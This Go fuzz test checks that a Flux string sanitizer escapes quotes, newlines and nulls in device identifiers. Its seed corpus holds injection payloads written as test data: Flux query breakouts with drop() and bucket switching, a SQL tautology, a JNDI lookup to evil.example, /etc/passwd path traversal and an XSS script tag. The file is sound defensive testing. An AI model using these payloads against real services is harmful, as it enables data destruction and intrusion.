// Copyright (c) 2025 Darren Soothill
// Licensed under the MIT License

package storage

import (
	"strings"
	"testing"
)

// FuzzSanitizeFluxString checks that arbitrary device identifiers and
// measurement names cannot break out of a Flux string literal.
func FuzzSanitizeFluxString(f *testing.F) {
	f.Add("0xd8d5b9000000af03")
	f.Add("")
	f.Add(`device"with"quotes`)
	f.Add(`device\with\backslashes`)
	f.Add(`") |> drop() //`)
	f.Add("device\nwith\nnewlines")
	f.Add("device\rwith\rcarriage\rreturns")
	f.Add("device\x00with\x00nulls")
	f.Add("\"\\\n\r\x00")
	f.Add(`) |> drop() |> from(bucket: "malicious`)
	f.Add(`"; import "os"; //`)
	f.Add("' OR '1'='1")
	f.Add("${jndi:ldap://evil.example/a}")
	f.Add("../../../etc/passwd")
	f.Add("<script>alert('xss')</script>")
	f.Add("|> yield()")
	f.Add(`from(bucket: "other")`)
	f.Add(strings.Repeat("A", 2000))
	f.Add(strings.Repeat(`"`, 100))
	f.Add(strings.Repeat(`\`, 100))
	f.Add(strings.Repeat("\n", 100))
	f.Add("devicecontrolchars")
	f.Add("日本語デバイス")
	f.Add("🔥💀👾")

	f.Fuzz(func(t *testing.T, input string) {
		result := sanitizeFluxString(input)

		// Worst case is one escaped character per input byte plus the
		// replacement rune for invalid UTF-8.
		if len(result) > 3*len(input) {
			t.Errorf("sanitizeFluxString() grew %d bytes to %d", len(input), len(result))
		}

		if strings.Contains(result, "\x00") {
			t.Errorf("sanitizeFluxString() kept a null byte: %q (input %q)", result, input)
		}

		for i := 0; i < len(result); i++ {
			switch result[i] {
			case '"', '\n', '\r':
				if i == 0 || result[i-1] != '\\' {
					t.Errorf("sanitizeFluxString() left %q unescaped at %d: %q (input %q)", result[i], i, result, input)
				}
			}
		}
	})
}
